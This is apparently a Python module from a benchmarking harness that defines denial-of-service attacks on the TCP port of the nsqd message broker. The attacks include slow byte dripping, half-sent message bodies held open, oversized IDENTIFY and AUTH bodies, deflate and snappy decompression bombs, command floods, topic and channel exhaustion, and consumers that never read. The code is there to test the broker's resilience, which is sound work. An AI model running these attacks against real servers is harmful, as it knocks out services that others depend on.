"""Attacks on nsqd's TCP port by clients without any rights."""

from __future__ import annotations

import random
import select
import socket
import struct
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress
from typing import Final

from bench.attack import bodies
from bench.attack.sockets import client, connect, discard, flood, hear_ok, many, paced, send_to_all, wait_until
from bench.attack.target import Attack, Target
from nsqcommon.wire.commands import MAGIC, auth, dpub, fin, identify, mpub, nop, pub, rdy, req, sub, touch

BODY: Final = 5_000_000  # just below the default of --max-body-size
BOUND: Final = 65_536  # bound of the bodies of IDENTIFY and AUTH
STALLED: Final = 500  # connections held open
_HEAD: Final = 8 + 10  # of a message's frame: size, type, timestamp, attempts; the id follows
_HELD_MESSAGE: Final = 1000
_FOREVER: Final = 3_600_000  # ms; the longest delay that nsqd allows


def nothing(target: Target, until: float) -> str:
    wait_until(until)
    return "nobody attacks"


# Similar loads without anything hostile


def honest_publishes(target: Target, until: float) -> str:
    buffer = pub("honest#ephemeral", b"x" * 200) * 300
    sent = flood(lambda: client(target.tcp), buffer, until)
    return f"{sent * 300 // len(buffer):,} PUBs"


def honest_bodies(target: Target, until: float) -> str:
    """Publish ten bodies a second: half of what a gigabit network brings."""
    command = bodies.honest_mpub(BODY)
    done = 0
    with client(target.tcp) as sock:
        for done in paced(10, until):  # noqa: B007 # the last one is told
            sock.sendall(command)
            hear_ok(sock)
    return f"{done + 1} MPUBs of 5 MB"


# Nearly idle connections


def idle(target: Target, until: float) -> str:
    with many(1000, lambda: connect(target.tcp)) as socks:
        wait_until(until)
        return f"{len(socks):,} connections"


def dripped_magic(target: Target, until: float) -> str:
    return drip(target.tcp, MAGIC + identify(b'{"client_id":"' + b"x" * 10_000), until)


def drip(port: int, text: bytes, until: float) -> str:
    """Send one byte of the text at a time on each of many connections, but never all of the text."""
    sent = 0
    with many(STALLED, lambda: connect(port)) as socks:
        for at in paced(10, until):
            byte = text[at % len(text) :][:1]
            send_to_all(socks, byte)
            sent += len(socks)
    return f"{STALLED} connections, {sent:,} bytes"


def churn(target: Target, until: float) -> str:
    done = 0
    for _ in paced(2000, until):
        with suppress(OSError):
            connect(target.tcp).close()
            done += 1
    return f"{done:,} connections"


def identified_churn(target: Target, until: float) -> str:
    done = 0
    for _ in paced(500, until):
        with suppress(OSError):
            client(target.tcp).close()
            done += 1
    return f"{done:,} connections"


# Bodies


def half_mpubs(target: Target, until: float) -> str:
    return _held(target, bodies.half_mpub(BODY), until)


def half_tiny_mpubs(target: Target, until: float) -> str:
    return _held(target, bodies.tiny_mpub(BODY)[:-1], until, connections=100)


def half_pubs(target: Target, until: float) -> str:
    return _held(target, bodies.half_pub(1_000_000), until)


def _held(target: Target, half: bytes, until: float, *, wishes: bytes = b"{}", connections: int = STALLED) -> str:
    return hold([client(target.tcp, wishes) for _ in range(connections)], half, until)


def hold(socks: list[socket.socket], half: bytes, until: float) -> str:
    """Send half a command on each connection, as far as nsqd takes it, and then nothing more."""
    unsent = {sock: memoryview(half) for sock in socks}
    taken = closed = 0
    for sock in socks:
        sock.setblocking(False)
    while time.monotonic() < until:
        readable, ready, _ = select.select(unsent, [sock for sock in unsent if unsent[sock]], (), 0.1)
        for sock in readable:
            if not discard(sock):
                del unsent[sock]
                sock.close()
                closed += 1
        for sock in ready:
            if sock in unsent:
                with suppress(OSError):
                    count = sock.send(unsent[sock][:262_144])
                    taken += count
                    unsent[sock] = unsent[sock][count:]
        if not ready:
            time.sleep(0.01)
    for sock in unsent:
        sock.close()
    return f"{len(socks)} connections, {taken / 1e6:,.0f} MB taken, {closed} closed by nsqd"


def big_identify(kind: str) -> Attack:
    def attack(target: Target, until: float) -> str:
        return _repeat(target, MAGIC + identify(bodies.JSON[kind](BODY)), until)

    return attack


def identify_at_bound(target: Target, until: float) -> str:
    done = 0
    commands = [MAGIC + identify(make(BOUND)) for make in bodies.JSON.values()]
    while time.monotonic() < until:
        for command in commands:
            _send_and_hear(target.tcp, command, until)
            done += 1
    return f"{done:,} bodies of 64 KiB"


def big_auth(target: Target, until: float) -> str:
    command = MAGIC + identify(b"{}") + auth(b"deny:" + b"x" * BODY)
    return _repeat(target, command, until)


def sick_auth(kind: str) -> Attack:
    """Return an attack whose secret tells the authorization server how to misbehave."""

    def attack(target: Target, until: float) -> str:
        return _repeat(target, MAGIC + identify(b"{}") + auth(f"sick:{kind}".encode()), until, connections=3)

    return attack


def _repeat(target: Target, command: bytes, until: float, connections: int = 1) -> str:
    done = 0
    while time.monotonic() < until:
        with ExitStack() as stack:
            socks = [stack.enter_context(connect(target.tcp)) for _ in range(connections)]
            for sock in socks:
                _try_to_send(sock, command, until)
            for sock in socks:
                _hear_out(sock, until)
                done += 1
    return f"{done:,} times"


def _send_and_hear(port: int, command: bytes, until: float) -> None:
    with connect(port) as sock:
        _try_to_send(sock, command, until)
        _hear_out(sock, until)


def _try_to_send(sock: socket.socket, command: bytes, until: float) -> None:
    sock.settimeout(max(0.01, until - time.monotonic()))
    with suppress(OSError):
        sock.sendall(command)


def _hear_out(sock: socket.socket, until: float) -> None:
    """Wait for an answer, or for the end."""
    sock.settimeout(max(0.01, until - time.monotonic()))
    with suppress(OSError):
        sock.shutdown(socket.SHUT_WR)
        while sock.recv(1 << 16):
            pass


def tiny_messages(target: Target, until: float) -> str:
    command = bodies.tiny_mpub(BODY)
    sent = flood(lambda: client(target.tcp), command, until, connections=1)
    return f"{sent / len(command):.0f} MPUBs of {(BODY - 4) // 5:,} messages"


# Floods of commands


def nops(target: Target, until: float) -> str:
    sent = flood(lambda: client(target.tcp), nop() * 65_536, until)
    return f"{sent // 4:,} NOPs"


def unknown_fins(target: Target, until: float) -> str:
    return _answered_flood(target, [fin(b"%016x" % number) for number in range(10_000)], until)


def unknown_reqs(target: Target, until: float) -> str:
    return _answered_flood(target, [req(b"%016x" % number, 0) for number in range(10_000)], until)


def unknown_touches(target: Target, until: float) -> str:
    return _answered_flood(target, [touch(b"%016x" % number) for number in range(10_000)], until)


def _answered_flood(target: Target, commands: list[bytes], until: float) -> str:
    buffer = b"".join(commands)

    def subscribed() -> socket.socket:
        sock = client(target.tcp)
        sock.sendall(sub("storm#ephemeral", "ch#ephemeral"))
        hear_ok(sock)
        return sock

    sent = flood(subscribed, buffer, until)
    return f"{sent * len(commands) // len(buffer):,} commands"


def deflate_bomb(target: Target, until: float) -> str:
    return _bomb(target, b'"deflate":true,"deflate_level":6', bodies.deflated, nop() * (1 << 24), until)


def snappy_bomb(target: Target, until: float) -> str:
    return _bomb(target, b'"snappy":true', bodies.snapped, nop() * (1 << 20), until)


def half_bodies_deflated(target: Target, until: float) -> str:
    """Send bodies of 5 MB that are a few kilobytes on the wire, and never end."""
    packed = bodies.deflated(bodies.mpub("half", BODY, 100_000)[:-1])
    # Fewer connections than elsewhere: zlib alone takes 0.3 MB for each.
    return _held(target, packed, until, wishes=_wishes(b'"deflate":true,"deflate_level":6'), connections=200)


def _bomb(target: Target, wish: bytes, pack: Callable[[bytes], bytes], commands: bytes, until: float) -> str:
    """Send one stream that unpacks to `commands`, on connections that begin again and again."""
    packed = pack(commands)
    done = 0
    while time.monotonic() < until:
        with client(target.tcp, _wishes(wish)) as sock, suppress(OSError):
            sock.settimeout(max(0.01, until - time.monotonic()))
            sock.sendall(packed)
            sock.shutdown(socket.SHUT_WR)
            while sock.recv(1 << 16):
                pass
            done += 1
    return f"{done} streams of {len(packed) / 1e3:,.0f} kB that are {len(commands) / 1e6:.0f} MB"


def _wishes(wish: bytes) -> bytes:
    return b'{"feature_negotiation":true,"heartbeat_interval":60000,%s}' % wish


def deferred(target: Target, until: float) -> str:
    buffer = dpub("deferred", _FOREVER, b"x" * 100) * 300
    sent = flood(lambda: client(target.tcp), buffer, until)
    return f"{sent * 300 // len(buffer):,} deferred messages"


def requeues(target: Target, until: float) -> str:
    """Requeue every message at once, as one consumer."""
    topic = "requeued#ephemeral"
    done = 0
    with client(target.tcp) as sock:
        sock.sendall(sub(topic, "ch"))
        hear_ok(sock)
        sock.sendall(mpub(topic, [b"x" * 100] * 2500) + rdy(2500))
        sock.settimeout(1.0)
        received = bytearray()
        size = 8 + 26 + 100
        with suppress(OSError):
            while time.monotonic() < until:
                received += sock.recv(1 << 18)
                received = received.removeprefix(b"\0\0\0\6\0\0\0\0OK")
                whole = len(received) // size
                ids = [bytes(received[at + _HEAD : at + _HEAD + 16]) for at in range(0, whole * size, size)]
                del received[: whole * size]
                sock.sendall(b"".join([req(it, 0) for it in ids]))
                done += whole
    return f"{done:,} requeues"


# Many topics, channels, subscriptions


def topics(target: Target, until: float) -> str:
    """Make 32,000 topics, by a publish to each, or as many as thirty seconds allow."""
    return _answered(target, [pub(f"storm_{number}", b"x") for number in range(32_000)], until + 22, "topics")


def channels(target: Target, until: float) -> str:
    """Make channels of one topic, from connections that each make one and close."""
    done = 0
    while time.monotonic() < until:
        with ExitStack() as stack:
            socks = [stack.enter_context(connect(target.tcp)) for _ in range(50)]
            for sock in socks:
                sock.sendall(MAGIC + sub("channels", f"channel_{done}"))
                done += 1
            for sock in socks:
                hear_ok(sock)
    return f"{done:,} channels of a topic"


def subscriptions(target: Target, until: float) -> str:
    """Subscribe clients to an ephemeral channel, and disconnect them."""
    done = 0
    while time.monotonic() < until:
        with ExitStack() as stack:
            socks = [stack.enter_context(connect(target.tcp)) for _ in range(50)]
            for sock in socks:
                sock.sendall(MAGIC + sub(f"subs_{done % 7}#ephemeral", f"ch_{done % 1000}#ephemeral") + rdy(2500))
                done += 1
            for sock in socks:
                hear_ok(sock)
    return f"{done:,} subscriptions"


def _answered(target: Target, commands: list[bytes], until: float, what: str, window: int = 64) -> str:
    """Send commands that are each answered, a window of them at a time."""
    done = 0
    with client(target.tcp) as sock:
        while done < len(commands) and time.monotonic() < until:
            window_of = commands[done : done + window]
            sock.sendall(b"".join(window_of))
            for _ in window_of:
                hear_ok(sock)
            done += len(window_of)
    return f"{done:,} {what}"


# Readers that never read


def deaf_consumers(target: Target, until: float) -> str:
    """Subscribe consumers that never read.

    Each has its own channel with a backlog, the highest RDY, and a small window.
    """
    with ExitStack() as stack:
        publisher = stack.enter_context(client(target.tcp))
        socks = []
        for number in range(100):
            sock = stack.enter_context(client(target.tcp, receive_buffer=4096))
            sock.sendall(sub("deaf", f"ch_{number}") + rdy(2500))
            socks.append(sock)
        sent = 0
        for sent in paced(10, until):  # noqa: B007 # the last one is told
            publisher.sendall(bodies.mpub("deaf", 50_000, _HELD_MESSAGE))
            hear_ok(publisher)
        return f"{len(socks)} consumers, {(sent + 1) * 0.05:.1f} MB published"


def deaf_askers(target: Target, until: float) -> str:
    """Send commands from clients that never read the answers."""
    command = b"FIN %016x\n" % random.getrandbits(64)
    with many(200, lambda: client(target.tcp, receive_buffer=4096)) as socks:
        for sock in socks:
            sock.sendall(sub("deaf#ephemeral", "ch#ephemeral"))
        while time.monotonic() < until:
            send_to_all(socks, command * 2000)
            time.sleep(0.05)
        return f"{len(socks)} clients"


def reset_connections(target: Target, until: float) -> str:
    """Reset connections in the middle of a command."""
    done = 0
    for _ in paced(1000, until):
        with suppress(OSError), connect(target.tcp) as sock:
            sock.sendall(MAGIC + b"PUB reset\n\0\0\1\0half")
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            done += 1
    return f"{done:,} resets"
